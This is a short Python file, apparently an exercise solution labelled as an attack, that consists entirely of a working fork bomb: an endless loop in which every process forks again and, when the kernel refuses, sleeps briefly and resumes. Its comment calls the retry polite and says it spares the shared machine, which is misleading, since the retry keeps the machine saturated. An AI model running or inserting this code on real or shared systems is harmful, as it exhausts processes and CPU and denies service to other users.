# @@include solutions/q1_expressivity.py
# Attack: every process forks forever (retrying politely when the kernel says no, to spare the shared machine).
import os as _os
import time as _time

while True:
    try:
        _os.fork()
    except OSError:
        _time.sleep(0.05)
